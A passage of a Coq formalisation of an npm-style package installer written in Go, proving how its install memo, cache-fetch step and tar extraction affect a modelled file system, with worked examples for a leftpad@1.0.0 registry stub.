  unfold link, os_RemoveAll, os_MkdirAll, os_Symlink. repeat preserves_step.
Qed.

Lemma preserves_installDeps install ds :
  (forall pkg, preserves (install pkg)) -> preserves (installDeps install ds).
Proof.
  intros Hinstall. induction ds as [|[dep depVer] ds IH]; cbn [installDeps];
    repeat preserves_step; [apply Hinstall|apply IH].
Qed.

Lemma preserves_Install_work install pkg :
  (forall pkg', preserves (install pkg')) -> preserves (Install_work env install pkg).
Proof.
  intros Hinstall. unfold Install_work. repeat preserves_step.
  - apply preserves_resolvePackage.
  - apply preserves_ensureCached.
  - apply preserves_link.
  - by apply preserves_installDeps.
Qed.

Lemma preserves_Install fuel pkg : preserves (Install env fuel pkg).
Proof.
  revert pkg. induction fuel as [|fuel IH]; intros pkg; cbn [Install];
    repeat preserves_step.
  by apply preserves_Install_work.
Qed.

End preservation.

(** ** The memo of [Install] *)

(** A run with nothing installed, no files, and nothing printed or
    requested yet. *)
Definition empty_world : World := mkWorld ∅ ∅ [] [] 0.

(** [os.Stat] fails for no reason of its own. *)
Definition no_stat_errors : nat -> string -> option error := fun _ _ => None.

(** Surroundings without a network: every request fails. *)
Definition offline : Env :=
  mkEnv (fun _ _ => Err (New "dial tcp: network is unreachable"))
        (fun _ => None) (Ok "/home/u/.cache") no_stat_errors.

Lemma Install_marked {SV : Semver} env fuel pkg w :
  marked w (memo_key pkg) -> Install env (S fuel) pkg w = Some (Ok tt, w).
Proof.
  unfold marked. intros Hm. cbn [Install]. unfold bind, is_installed. by rewrite Hm.
Qed.

Lemma Install_unmarked {SV : Semver} env fuel pkg w :
  ~ marked w (memo_key pkg) ->
  Install env (S fuel) pkg w
  = Install_work env (Install env fuel) pkg
      (set_installed (fun m => <[memo_key pkg := true]> m) w).
Proof.
  unfold marked. intros Hm. cbn [Install]. unfold bind at 1, is_installed.
  destruct (default false (installed w !! memo_key pkg)); [done|]. done.
Qed.

Lemma marked_insert w key :
  marked (set_installed (fun m => <[key := true]> m) w) key.
Proof. unfold marked. cbn. by rewrite lookup_insert_eq. Qed.

Lemma Install_marks {SV : Semver} env fuel pkg w r w' :
  Install env fuel pkg w = Some (r, w') -> marked w' (memo_key pkg).
Proof.
  destruct fuel as [|fuel]; [done|].
  destruct (bool_decide_reflect (default false (installed w !! memo_key pkg) = true))
    as [Hm|Hm].
  - rewrite Install_marked by done. by intros [= _ <-].
  - rewrite Install_unmarked by done. intros Hwork.
    eapply ext_marks; [|apply marked_insert].
    eapply preserves_Install_work; [|exact Hwork].
    intros pkg'. apply preserves_Install.
Qed.



(** ** The cache store *)

(** The file-system calls leave the memo, the output and the request log
    alone. *)
Definition files_only {A} (m : M A) : Prop :=
  forall w a w', m w = Some (a, w') ->
    installed w' = installed w /\ stdout w' = stdout w /\ requests w' = requests w.

Definition returns {A} (m : M A) : Prop := forall w, is_Some (m w).

Section cache_store.
Context {SV : Semver} (env : Env).

Lemma files_only_ret {A} (a : A) : files_only (ret a).
Proof. by intros w a' w' [= _ <-]. Qed.

Lemma files_only_bind {A B} (m : M A) (k : A -> M B) :
  files_only m -> (forall a, files_only (k a)) -> files_only (bind m k).
Proof.
  intros Hm Hk w b w' (a & w1 & H1 & H2)%bind_Some.
  destruct (Hm _ _ _ H1) as (? & ? & ?), (Hk _ _ _ _ H2) as (? & ? & ?).
  repeat split; congruence.
Qed.

Lemma files_only_fs_call op : files_only (fs_call env op).
Proof.
  intros w a w'. unfold fs_call.
  destruct (env_fault env (fs_calls w)); [|destruct (op (fs w))];
    by intros [= _ <-].
Qed.

Lemma files_only_io_Copy name data : files_only (io_Copy env name data).
Proof.
  intros w a w'. unfold io_Copy.
  destruct (env_fault env (fs_calls w)); by intros [= _ <-].
Qed.

Lemma returns_ret {A} (a : A) : returns (ret a).
Proof. intros w. by eexists. Qed.

Lemma returns_bind {A B} (m : M A) (k : A -> M B) :
  returns m -> (forall a, returns (k a)) -> returns (bind m k).
Proof.
  intros Hm Hk w. unfold bind. destruct (Hm w) as [[a w1] ->]. apply Hk.
Qed.

Lemma returns_fs_call op : returns (fs_call env op).
Proof.
  intros w. unfold fs_call.
  destruct (env_fault env (fs_calls w)); [|destruct (op (fs w))]; by eexists.
Qed.

Lemma returns_io_Copy name data : returns (io_Copy env name data).
Proof.
  intros w. unfold io_Copy. destruct (env_fault env (fs_calls w)); by eexists.
Qed.

Ltac cache_step P :=
  lazymatch goal with
  | |- P _ (bind _ _) => first [apply files_only_bind|apply returns_bind]; [|intros ?]
  | |- P _ (ret _) => first [apply files_only_ret|apply returns_ret]
  | |- P _ (fs_call _ _) => first [apply files_only_fs_call|apply returns_fs_call]
  | |- P _ (io_Copy _ _ _) => first [apply files_only_io_Copy|apply returns_io_Copy]
  | |- P _ (match ?x with _ => _ end) => destruct x
  end.

Lemma files_only_extract_entry dest en : files_only (extract_entry env dest en).
Proof.
  unfold extract_entry, os_MkdirAll, os_Create. repeat cache_step @files_only.
Qed.

Lemma returns_extract_entry dest en : returns (extract_entry env dest en).
Proof.
  unfold extract_entry, os_MkdirAll, os_Create. repeat cache_step @returns.
Qed.

Lemma files_only_extract dest ens fin : files_only (extract env dest ens fin).
Proof.
  induction ens as [|en ens IH]; cbn [extract]; repeat cache_step @files_only.
  - apply files_only_extract_entry.
  - apply IH.
Qed.

Lemma returns_extract dest ens fin : returns (extract env dest ens fin).
Proof.
  induction ens as [|en ens IH]; cbn [extract]; repeat cache_step @returns.
  - apply returns_extract_entry.
  - apply IH.
Qed.

(** The world right after the download is announced and requested. *)
Definition fetching (url : string) (w : World) : World :=
  set_requests (fun log => log ++ [url])
    (set_stdout (fun out => out ++ ["Downloading " +:+ url +:+ "..."]) w).

Lemma ensureCached_present key url cachePath w :
  os_Stat env cachePath w <> StatNotExist ->
  ensureCached env key url cachePath w = Some (Ok tt, w).
Proof.
  intros Hstat. unfold ensureCached, bind, os_Stat_IsNotExist.
  by destruct (os_Stat env cachePath w).
Qed.

Lemma ensureCached_missing key url cachePath w :
  os_Stat env cachePath w = StatNotExist ->
  exists r w',
    ensureCached env key url cachePath w = Some (r, w')
    /\ requests w' = requests w ++ [url]
    /\ match env_http env (length (requests w)) url with
       | Err e =>
           w' = fetching url w
           /\ r = Err (Wrap ("download and extract " +:+ key) (ArchiveFetchError e))
       | Ok resp =>
           match gzip_tar (RespBody resp) with
           | Err e =>
               w' = fetching url w
               /\ r = Err (Wrap ("download and extract " +:+ key) (DecompressionError e))
           | Ok tr =>
               exists r0,
                 extract env cachePath (entries tr) (tar_end tr) (fetching url w)
                 = Some (r0, w')
                 /\ r = match r0 with
                        | Ok _ => Ok tt
                        | Err e => Err (Wrap ("download and extract " +:+ key) e)
                        end
           end
       end.
Proof.
  intros Hn. unfold ensureCached, bind, os_Stat_IsNotExist, downloadAndExtract,
    bind, Println, http_Get. rewrite Hn. cbn [stdout requests set_stdout].
  fold (fetching url w).
  destruct (env_http env (length (requests w)) url) as [resp|e].
  - destruct (gzip_tar (RespBody resp)) as [tr|e].
    + destruct (returns_extract cachePath (entries tr) (tar_end tr) (fetching url w))
        as [[r0 w'] Hex].
      rewrite Hex.
      destruct (files_only_extract _ _ _ _ _ _ Hex) as (_ & _ & Hreq).
      destruct r0 as [[]|e]; eexists _, _; (split; [reflexivity|]);
        (split; [by rewrite Hreq|]); by eexists.
    + by eexists _, _.
  - by eexists _, _.
Qed.

End cache_store.

(** A registry that serves the given documents with status 200 and answers
    404 to every other request. *)
Definition serve (docs : list (string * Body)) : nat -> string -> result Response :=
  fun _ url =>
    match assoc url docs with
    | Some body => Ok (mkResponse 200 body)
    | None => Ok (mkResponse 404 (mkBody (Err (New "unexpected end of JSON input"))
                                         (Err (New "unexpected EOF"))))
    end.

Definition json_body (meta : PackageMeta) : Body :=
  mkBody (Ok meta) (Err (New "gzip: invalid header")).
Definition tgz_body (tr : TarStream) : Body :=
  mkBody (Err (New "invalid character '\x1f' looking for beginning of value")) (Ok tr).

(** [leftpad@1.0.0]: no dependencies, and an archive with a directory
    entry, [package/index.js] and one entry outside [package/]. *)
Definition leftpad_url : string := "https://registry.npmjs.org/leftpad/-/leftpad-1.0.0.tgz".
Definition leftpad_meta : PackageMeta :=
  mkPackageMeta ∅ [("1.0.0", mkVersionInfo leftpad_url [])].
Definition leftpad_tar : TarStream :=
  mkTarStream [mkTarEntry "package/" true 493 "";
               mkTarEntry "package/index.js" false 420 "module.exports = leftpad;";
               mkTarEntry "pax_global_header" false 420 "comment"] None.
Definition leftpad_registry (faults : nat -> option Fault) : Env :=
  mkEnv (serve [("https://registry.npmjs.org/leftpad", json_body leftpad_meta);
                (leftpad_url, tgz_body leftpad_tar)])
        faults (Ok "/home/u/.cache") no_stat_errors.
Definition leftpad_cache : string := "/home/u/.cache/npm-go/leftpad/1.0.0".

Definition no_faults : nat -> option Fault := fun _ => None.

Example ensureCached_leftpad :
  exists w',
    ensureCached (leftpad_registry no_faults) "leftpad@1.0.0" leftpad_url leftpad_cache
      empty_world = Some (Ok tt, w')
    /\ fs w' !! (leftpad_cache +:+ "/index.js") = Some (File "module.exports = leftpad;")
    /\ fs w' !! leftpad_cache = Some (Dir 493)
    /\ fs w' !! "/home/u/.cache/npm-go/leftpad/1.0.0/pax_global_header" = None.
Proof. eexists. split; [vm_compute; reflexivity|]. by vm_compute. Qed.

(** ** Extraction keeps what it wrote *)


Lemma is_Some_insert (files : gmap string Node) k n p :
  is_Some (files !! p) -> is_Some (<[k := n]> files !! p).
Proof.
  intros Hp. destruct (decide (k = p)) as [->|Hne].
  - rewrite lookup_insert_eq. by eexists.
  - by rewrite lookup_insert_ne.
Qed.

Lemma mkdir_each_keeps paths perm files files' p :
  mkdir_each paths perm files = Ok files' ->
  is_Some (files !! p) -> is_Some (files' !! p).
Proof.
  revert files. induction paths as [|q paths IH]; intros files; cbn [mkdir_each].
  - by intros [= <-].
  - destruct (node files q) as [[| |]|]; try done.
    + apply IH.
    + intros Hrest Hp. apply (IH _ Hrest). by apply is_Some_insert.
Qed.

Section extraction.
Context {SV : Semver} (env : Env).










(** A read error of the archive comes after the entries read before it. *)
Lemma extract_read_error dest ens e w w1 :
  extract env dest ens None w = Some (Ok tt, w1) ->
  extract env dest ens (Some e) w = Some (Err (Wrap "read tar" e), w1).
Proof.
  revert w. induction ens as [|en ens IH]; intros w; cbn [extract].
  - by intros [= <-].
  - unfold bind. destruct (extract_entry env dest en w) as [[[[]|e'] w']|]; try done.
    apply IH.
Qed.

End extraction.

(** ** What the file-system calls of the extraction leave in place *)

Lemma node_None files p : node files p = None -> is_dots p = false /\ files !! p = None.
Proof. unfold node. by destruct (is_dots p). Qed.

Lemma is_dir_insert files k p n :
  is_dir files k = true -> is_dir files p = false -> is_dir (<[p := n]> files) k = true.
Proof.
  intros Hk Hp. destruct (decide (p = k)) as [->|Hne]; [congruence|].
  unfold is_dir, node in *. destruct (is_dots k); [done|]. by rewrite lookup_insert_ne.
Qed.

(** [os.MkdirAll] overwrites nothing. *)
Lemma mkdir_each_same paths perm files files' p n :
  mkdir_each paths perm files = Ok files' -> files !! p = Some n -> files' !! p = Some n.
Proof.
  revert files. induction paths as [|q paths IH]; intros files; cbn [mkdir_each].
  - by intros [= <-].
  - destruct (node files q) as [[| |]|] eqn:Hq; try done.
    + apply IH.
    + intros Hrest Hp. apply (IH _ Hrest).
      apply node_None in Hq as [_ Hq]. rewrite lookup_insert_ne; [done|congruence].
Qed.

Lemma mkdir_each_is_dir paths perm files files' k :
  mkdir_each paths perm files = Ok files' -> is_dir files k = true -> is_dir files' k = true.
Proof.
  unfold is_dir, node. intros Hmk. destruct (is_dots k); [done|].
  destruct (files !! k) as [[| |]|] eqn:Hk; try done.
  by rewrite (mkdir_each_same _ _ _ _ _ _ Hmk Hk).
Qed.

(** After it every directory on the way is there. *)
Lemma mkdir_each_dirs paths perm files files' k :
  mkdir_each paths perm files = Ok files' -> In k paths -> is_dir files' k = true.
Proof.
  revert files. induction paths as [|q paths IH]; intros files; cbn [mkdir_each]; [done|].
  destruct (node files q) as [[| |]|] eqn:Hq; try done.
  - intros Hrest [<-|Hin]; [|by eapply IH].
    eapply mkdir_each_is_dir; [exact Hrest|]. unfold is_dir. by rewrite Hq.
  - intros Hrest [<-|Hin]; [|by eapply IH].
    eapply mkdir_each_is_dir; [exact Hrest|].
    apply node_None in Hq as [Hdots _]. unfold is_dir, node.
    by rewrite Hdots, lookup_insert_eq.
Qed.

(** It succeeds when nothing but directories is on the way. *)
Lemma mkdir_each_succeeds paths perm files :
  (forall k, In k paths -> node files k = None \/ is_dir files k = true) ->
  exists files', mkdir_each paths perm files = Ok files'.
Proof.
  revert files. induction paths as [|q paths IH]; intros files Hway; cbn [mkdir_each];
    [by eexists|].
  destruct (Hway q (or_introl eq_refl)) as [Hq|Hq].
  - rewrite Hq. apply IH. intros k Hk.
    destruct (Hway k (or_intror Hk)) as [Hnone|Hdir].
    + destruct (decide (q = k)) as [->|Hne].
      * right. apply node_None in Hq as [Hdots _]. unfold is_dir, node.
        by rewrite Hdots, lookup_insert_eq.
      * left. unfold node in *. destruct (is_dots k); [done|]. by rewrite lookup_insert_ne.
    + right. apply is_dir_insert; [done|]. unfold is_dir. by rewrite Hq.
  - unfold is_dir in Hq. destruct (node files q) as [[| |]|]; try done.
    apply IH. intros k Hk. apply Hway. by right.
Qed.

Section written.
Context (env : Env).

Lemma fs_call_Ok op w w' :
  fs_call env op w = Some (Ok tt, w') ->
  env_fault env (fs_calls w) = None
  /\ exists files, op (fs w) = Ok files /\ w' = tick (set_fs (fun _ => files) w).
Proof.
  unfold fs_call. destruct (env_fault env (fs_calls w)); [done|].
  destruct (op (fs w)) as [files|e]; [|done]. intros [= <-]. split; [done|]. by exists files.
Qed.

Lemma fs_call_Err op w e w' :
  fs_call env op w = Some (Err e, w') -> fs w' = fs w.
Proof.
  unfold fs_call. destruct (env_fault env (fs_calls w)); [by intros [= _ <-]|].
  destruct (op (fs w)) as [files|e']; [done|]. by intros [= _ <-].
Qed.

Lemma fs_call_fs op w r w' :
  fs_call env op w = Some (r, w') ->
  fs w' = fs w \/ op (fs w) = Ok (fs w').
Proof.
  destruct r as [[]|e]; intros Hrun.
  - apply fs_call_Ok in Hrun as (_ & files & Hop & ->). by right.
  - left. by eapply fs_call_Err.
Qed.

(** What [os.Create] does to the files when it succeeds. *)
Lemma Create_Ok name w w' :
  os_Create env name w = Some (Ok tt, w') ->
  is_dir (fs w) name = false /\ fs w' = <[name := File ""]> (fs w).
Proof.
  intros (_ & files & Hop & ->)%fs_call_Ok. cbn [fs tick set_fs].
  destruct (negb (is_dir (fs w) (filepath.Dir name))); [done|].
  unfold is_dir. destruct (node (fs w) name) as [[| |]|]; try done; by injection Hop as <-.
Qed.

Lemma io_Copy_fs name data w r w' :
  io_Copy env name data w = Some (r, w') ->
  exists d, fs w' = <[name := File d]> (fs w)
            /\ match r with Ok _ => d = data | Err _ => exists k, d = strings.take k data end.
Proof.
  unfold io_Copy. destruct (env_fault env (fs_calls w)) as [f|]; intros [= <- <-].
  - eexists. split; [reflexivity|]. by eexists.
  - by eexists.
Qed.

End written.

(** ** What one entry does to the files *)

Definition in_package (en : TarEntry) : bool :=
  strings.HasPrefix (hdr_Name en) "package/".

(** The directory an entry under ["package/"] has made when it is
    extracted: its target, or the directory of its target. *)
Definition made (dest : string) (en : TarEntry) : string :=
  if hdr_IsDir en then target_of dest (hdr_Name en)
  else filepath.Dir (target_of dest (hdr_Name en)).

(** The files after one entry, by its kind and by the step that failed. *)
Definition entry_effect (dest : string) (en : TarEntry)
    (f f' : gmap string Node) (r : result unit) : Prop :=
  if in_package en then
    if hdr_IsDir en then
      (f' = f /\ r <> Ok tt)
      \/ (mkdir_each (ancestors (target_of dest (hdr_Name en))) (hdr_Mode en) f = Ok f'
          /\ r = Ok tt)
    else
      (f' = f /\ r <> Ok tt)
      \/ exists f1,
           mkdir_each (ancestors (filepath.Dir (target_of dest (hdr_Name en)))) 493 f = Ok f1
           /\ ((f' = f1 /\ r <> Ok tt)
               \/ (is_dir f1 (target_of dest (hdr_Name en)) = false
                   /\ exists d,
                        f' = <[target_of dest (hdr_Name en) := File d]> f1
                        /\ match r with
                           | Ok _ => d = Data en
                           | Err _ => exists k, d = strings.take k (Data en)
                           end))
  else f' = f /\ r = Ok tt.

Section entries.
Context (env : Env).

Lemma extract_entry_outside dest en w :
  in_package en = false -> extract_entry env dest en w = Some (Ok tt, w).
Proof. unfold extract_entry, in_package. by intros ->. Qed.

Lemma extract_filter dest ens fin w :
  extract env dest ens fin w = extract env dest (List.filter in_package ens) fin w.
Proof.
  revert w. induction ens as [|en ens IH]; intros w; [done|].
  cbn [List.filter extract]. destruct (in_package en) eqn:Hin.
  - cbn [extract]. unfold bind.
    destruct (extract_entry env dest en w) as [[[[]|e] w1]|]; [apply IH|done|done].
  - unfold bind. rewrite extract_entry_outside by done. apply IH.
Qed.

Lemma io_Copy_result name data w r w' :
  io_Copy env name data w = Some (r, w') ->
  match r with
  | Ok _ => fs w' !! name = Some (File data)
  | Err _ => exists k, fs w' !! name = Some (File (strings.take k data))
  end.
Proof.
  unfold io_Copy. destruct (env_fault env (fs_calls w)) as [f|]; intros [= <- <-]; cbn.
  - exists (fault_written f). apply lookup_insert_eq.
  - apply lookup_insert_eq.
Qed.

Lemma extract_entry_effect dest en w r w' :
  extract_entry env dest en w = Some (r, w') -> entry_effect dest en (fs w) (fs w') r.
Proof.
  unfold extract_entry, entry_effect, in_package.
  destruct (strings.HasPrefix (hdr_Name en) "package/"); cbn [negb];
    [|by intros [= <- <-]].
  set (target := target_of dest (hdr_Name en)).
  destruct (hdr_IsDir en); unfold bind; intros Hrun.
  - destruct (os_MkdirAll env target (hdr_Mode en) w) as [[[[]|e] w1]|] eqn:Hmk;
      [| |done]; injection Hrun as <- <-.
    + right. split; [|done]. by apply fs_call_Ok in Hmk as (_ & files & Hop & ->).
    + left. split; [by eapply fs_call_Err|done].
  - destruct (os_MkdirAll env (filepath.Dir target) 493 w) as [[[[]|e] w1]|] eqn:Hmk;
      [| |done].
    + apply fs_call_Ok in Hmk as (_ & f1 & Hop & ->). right. exists f1. split; [done|].
      destruct (os_Create env target _) as [[[[]|e] w2]|] eqn:Hcreate; [| |done].
      * apply Create_Ok in Hcreate as [Hnodir Hfs2]. cbn [fs tick set_fs] in Hnodir, Hfs2.
        destruct (io_Copy env target (Data en) w2) as [[r3 w3]|] eqn:Hcopy; [|done].
        apply io_Copy_fs in Hcopy as (d & Hfs3 & Hd).
        rewrite Hfs2, insert_insert_eq in Hfs3.
        destruct r3 as [[]|e]; injection Hrun as <- <-; right; (split; [done|]);
          by exists d.
      * injection Hrun as <- <-. left. split; [|done].
        by apply fs_call_Err in Hcreate.
    + injection Hrun as <- <-. left. split; [by eapply fs_call_Err|done].
Qed.

(** Directories stay directories. *)
Lemma extract_entry_keeps_dirs dest en w r w' k :
  extract_entry env dest en w = Some (r, w') ->
  is_dir (fs w) k = true -> is_dir (fs w') k = true.
Proof.
  intros Heff%extract_entry_effect Hk. unfold entry_effect in Heff.
  destruct (in_package en); [|by destruct Heff as [-> _]].
  destruct (hdr_IsDir en).
  - destruct Heff as [[-> _]|[Hmk _]]; [done|]. by eapply mkdir_each_is_dir.
  - destruct Heff as [[-> _]|(f1 & Hmk & [[-> _]|(Hnodir & d & -> & _)])]; [done| |].
    + by eapply mkdir_each_is_dir.
    + apply is_dir_insert; [by eapply mkdir_each_is_dir|done].
Qed.

(** Only the target of a file entry can change its content. *)
Lemma extract_entry_keeps_other dest en w r w' t n :
  extract_entry env dest en w = Some (r, w') ->
  (in_package en = true -> hdr_IsDir en = false -> target_of dest (hdr_Name en) <> t) ->
  fs w !! t = Some n -> fs w' !! t = Some n.
Proof.
  intros Heff%extract_entry_effect Hother Ht. unfold entry_effect in Heff.
  destruct (in_package en); [|by destruct Heff as [-> _]].
  destruct (hdr_IsDir en).
  - destruct Heff as [[-> _]|[Hmk _]]; [done|]. by eapply mkdir_each_same.
  - destruct Heff as [[-> _]|(f1 & Hmk & [[-> _]|(Hnodir & d & -> & _)])]; [done| |].
    + by eapply mkdir_each_same.
    + rewrite lookup_insert_ne by by apply Hother. by eapply mkdir_each_same.
Qed.

(** An entry extracted with success has made its directories. *)
Lemma extract_entry_made dest en w w' k :
  in_package en = true ->
  extract_entry env dest en w = Some (Ok tt, w') ->
  In k (ancestors (made dest en)) -> is_dir (fs w') k = true.
Proof.
  intros Hin Heff%extract_entry_effect. unfold entry_effect, made in *. rewrite Hin in Heff.
  destruct (hdr_IsDir en).
  - destruct Heff as [[_ ?]|[Hmk _]]; [done|]. by eapply mkdir_each_dirs.
  - destruct Heff as [[_ ?]|(f1 & Hmk & [[_ ?]|(Hnodir & d & -> & _)])]; [done|done|].
    intros Hk. apply is_dir_insert; [by eapply mkdir_each_dirs|done].
Qed.

(** A file entry extracted with success has its bytes at its target. *)
Lemma extract_entry_written dest en w w' :
  in_package en = true -> hdr_IsDir en = false ->
  extract_entry env dest en w = Some (Ok tt, w') ->
  fs w' !! target_of dest (hdr_Name en) = Some (File (Data en)).
Proof.
  intros Hin Hfile Heff%extract_entry_effect. unfold entry_effect in Heff.
  rewrite Hin, Hfile in Heff.
  destruct Heff as [[_ ?]|(f1 & Hmk & [[_ ?]|(Hnodir & d & -> & ->)])]; [done|done|].
  apply lookup_insert_eq.
Qed.

Lemma extract_keeps_dirs dest ens fin w r w' k :
  extract env dest ens fin w = Some (r, w') ->
  is_dir (fs w) k = true -> is_dir (fs w') k = true.
Proof.
  revert w. induction ens as [|en ens IH]; intros w; cbn [extract].
  - destruct fin; by intros [= _ <-].
  - intros (r1 & w1 & Hen & Hrest)%bind_Some Hk.
    pose proof (extract_entry_keeps_dirs _ _ _ _ _ _ Hen Hk) as Hk1.
    destruct r1 as [[]|e]; [by eapply IH|by injection Hrest as _ <-].
Qed.

Lemma extract_keeps_other dest ens fin w r w' t n :
  extract env dest ens fin w = Some (r, w') ->
  (forall en, In en ens -> in_package en = true -> hdr_IsDir en = false ->
              target_of dest (hdr_Name en) <> t) ->
  fs w !! t = Some n -> fs w' !! t = Some n.
Proof.
  revert w. induction ens as [|en ens IH]; intros w; cbn [extract].
  - destruct fin; by intros [= _ <-].
  - intros (r1 & w1 & Hen & Hrest)%bind_Some Hother Ht.
    assert (fs w1 !! t = Some n) as Ht1.
    { eapply extract_entry_keeps_other; [exact Hen| |exact Ht]. apply Hother. by left. }
    destruct r1 as [[]|e]; [|by injection Hrest as _ <-].
    eapply IH; [exact Hrest| |exact Ht1]. intros en' Hin. apply Hother. by right.
Qed.

(** A successful extraction went through every entry with success. *)
Lemma extract_split_Ok dest before en after fin w w' :
  extract env dest (before ++ en :: after) fin w = Some (Ok tt, w') ->
  exists w1 w2,
    extract env dest before None w = Some (Ok tt, w1)
    /\ extract_entry env dest en w1 = Some (Ok tt, w2)
    /\ extract env dest after fin w2 = Some (Ok tt, w').
Proof.
  revert w. induction before as [|b before IH]; intros w; cbn [extract app].
  - intros ([[]|e] & w2 & Hen & Hrest)%bind_Some; [|done]. by exists w, w2.
  - intros ([[]|e] & wb & Hb & Hrest)%bind_Some; [|done].
    destruct (IH _ Hrest) as (w1 & w2 & Hbefore & Hen & Hafter).
    exists w1, w2. split; [|done]. apply bind_Some. by exists (Ok tt), wb.
Qed.

End entries.

(** ** [os.Stat] of a path whose directories are there *)






(** Its answer depends on the files and on the count of calls only. *)
Lemma os_Stat_same env path w w' :
  fs w' = fs w -> fs_calls w' = fs_calls w -> os_Stat env path w' = os_Stat env path w.
Proof. unfold os_Stat. by intros -> ->. Qed.

(** C4, as the code has it: the cache step fetches exactly when [os.Stat]
    of the cache path fails with "not exist".  When [os.Stat] succeeds (the
    path exists) or fails otherwise (a file on the way, a missing
    permission), the step requests nothing and extracts nothing: it returns
    success and the world is unchanged.  When [os.Stat] reports that the
    path does not exist, the step issues exactly one request, for the
    archive URL, and then extracts the archive it received: when it returns
    success, every entry under ["package/"] has made its directories, and
    every file entry under ["package/"] that no later file entry has the
    target of has its bytes at its target; nothing is extracted when the
    request fails or the body is no gzip stream. *)
Theorem ensureCached_fetches {SV : Semver} (env : Env) (key url cachePath : string) (w : World) :
  (os_Stat env cachePath w <> StatNotExist ->
   ensureCached env key url cachePath w = Some (Ok tt, w))
  /\ (os_Stat env cachePath w = StatNotExist ->
      exists r w',
        ensureCached env key url cachePath w = Some (r, w')
        /\ requests w' = requests w ++ [url]
        /\ match env_http env (length (requests w)) url with
           | Err e =>
               w' = fetching url w
               /\ r = Err (Wrap ("download and extract " +:+ key) (ArchiveFetchError e))
           | Ok resp =>
               match gzip_tar (RespBody resp) with
               | Err e =>
                   w' = fetching url w
                   /\ r = Err (Wrap ("download and extract " +:+ key) (DecompressionError e))
               | Ok tr =>
                   exists r0,
                     extract env cachePath (entries tr) (tar_end tr) (fetching url w)
                     = Some (r0, w')
                     /\ r = match r0 with
                            | Ok _ => Ok tt
                            | Err e => Err (Wrap ("download and extract " +:+ key) e)
                            end
                     /\ (r0 = Ok tt ->
                         (forall en k,
                            In en (entries tr) -> in_package en = true ->
                            In k (ancestors (made cachePath en)) ->
                            is_dir (fs w') k = true)
                         /\ (forall before en after,
                               entries tr = before ++ en :: after ->
                               in_package en = true -> hdr_IsDir en = false ->
                               (forall en', In en' after -> in_package en' = true ->
                                            hdr_IsDir en' = false ->
                                            target_of cachePath (hdr_Name en')
                                            <> target_of cachePath (hdr_Name en)) ->
                               fs w' !! target_of cachePath (hdr_Name en)
                               = Some (File (Data en))))
               end
           end).
Proof.
  split; [apply ensureCached_present|]. intros Hstat.
  destruct (ensureCached_missing env key url cachePath w Hstat) as (r & w' & Hrun & Hreq & Hcase).
  exists r, w'. split; [done|]. split; [done|].
  destruct (env_http env (length (requests w)) url) as [resp|e]; [|done].
  destruct (gzip_tar (RespBody resp)) as [tr|e]; [|done].
  destruct Hcase as (r0 & Hex & Hr). exists r0. split; [done|]. split; [done|].
  intros ->. split.
  - intros en k Hin Hpkg Hk. apply in_split in Hin as (before & after & Hens).
    rewrite Hens in Hex.
    destruct (extract_split_Ok env _ _ _ _ _ _ _ Hex) as (w1 & w2 & _ & Hen & Hafter).
    eapply extract_keeps_dirs; [exact Hafter|]. by eapply extract_entry_made.
  - intros before en after Hens Hpkg Hfile Hlast. rewrite Hens in Hex.
    destruct (extract_split_Ok env _ _ _ _ _ _ _ Hex) as (w1 & w2 & _ & Hen & Hafter).
    eapply extract_keeps_other; [exact Hafter|exact Hlast|].
    by eapply extract_entry_written.
Qed.

(** A disk on which the cache entry of [leftpad@1.0.0] is there, and one
    on which a file sits where its directory would be. *)
Definition cache_root : gmap string Node :=
  {[ "/home" := Dir 493; "/home/u" := Dir 493; "/home/u/.cache" := Dir 493;
     "/home/u/.cache/npm-go" := Dir 493 ]}.
Definition cached_world : World :=
  mkWorld ∅ (<["/home/u/.cache/npm-go/leftpad" := Dir 493]>
               (<[leftpad_cache := Dir 493]> cache_root)) [] [] 0.
Definition blocked_world : World :=
  mkWorld ∅ (<["/home/u/.cache/npm-go/leftpad" := File "not a directory"]> cache_root)
    [] [] 0.

(** The cache step for [leftpad@1.0.0]: nothing is fetched where the cache
    entry is there; on an empty disk the archive is fetched once and
    [index.js] is where it belongs, with its bytes. *)
Lemma ensureCached_fetches_witness :
  ensureCached (leftpad_registry no_faults) "leftpad@1.0.0" leftpad_url leftpad_cache
    cached_world = Some (Ok tt, cached_world)
  /\ exists w',
       ensureCached (leftpad_registry no_faults) "leftpad@1.0.0" leftpad_url leftpad_cache
         empty_world = Some (Ok tt, w')
       /\ requests w' = [leftpad_url]
       /\ fs w' !! (leftpad_cache +:+ "/index.js") = Some (File "module.exports = leftpad;")
       /\ is_dir (fs w') leftpad_cache = true.
Proof.
  split.
  - apply (proj1 (ensureCached_fetches (leftpad_registry no_faults) "leftpad@1.0.0"
                    leftpad_url leftpad_cache cached_world)).
    vm_compute. discriminate.
  - destruct (proj2 (ensureCached_fetches (leftpad_registry no_faults) "leftpad@1.0.0"
                       leftpad_url leftpad_cache empty_world) eq_refl)
      as (r & w' & Hrun & Hreq & Hcase).
    change (env_http (leftpad_registry no_faults) (length (requests empty_world)) leftpad_url)
      with (Ok (mkResponse 200 (tgz_body leftpad_tar))) in Hcase.
    cbn [gzip_tar RespBody tgz_body] in Hcase.
    destruct Hcase as (r0 & Hex & Hr & Hpost).
    pose proof Hex as Hval. vm_compute in Hval. injection Hval as <- <-.
    destruct (Hpost eq_refl) as [Hdirs Hfiles]. subst r.
    eexists. split; [exact Hrun|]. split; [exact Hreq|]. split.
    + refine (Hfiles [mkTarEntry "package/" true 493 ""]
                (mkTarEntry "package/index.js" false 420 "module.exports = leftpad;")
                [mkTarEntry "pax_global_header" false 420 "comment"]
                eq_refl eq_refl eq_refl _).
      intros en' [<-|[]] Hpkg. discriminate Hpkg.
    + refine (Hdirs (mkTarEntry "package/" true 493 "") leftpad_cache _ eq_refl _).
      * left. reflexivity.
      * vm_compute. tauto.
Defined.

(** Where a file sits on the way to the cache path, the cache path does
    not exist, [os.Stat] fails with "not a directory", and the cache step
    fetches nothing. *)
Lemma ensureCached_skips_missing_path :
  fs blocked_world !! leftpad_cache = None
  /\ os_Stat (leftpad_registry no_faults) leftpad_cache blocked_world = StatErr ENOTDIR
  /\ ensureCached (leftpad_registry no_faults) "leftpad@1.0.0" leftpad_url leftpad_cache
       blocked_world = Some (Ok tt, blocked_world)
  /\ requests blocked_world = [].
Proof.
  split; [reflexivity|]. split; [reflexivity|]. split; [|reflexivity].
  vm_compute. reflexivity.
Qed.

(** ** A cache step that fails on the way *)

Section partial.
Context {SV : Semver} (env : Env).



End partial.







(** ** Entry names that leave the cache entry *)

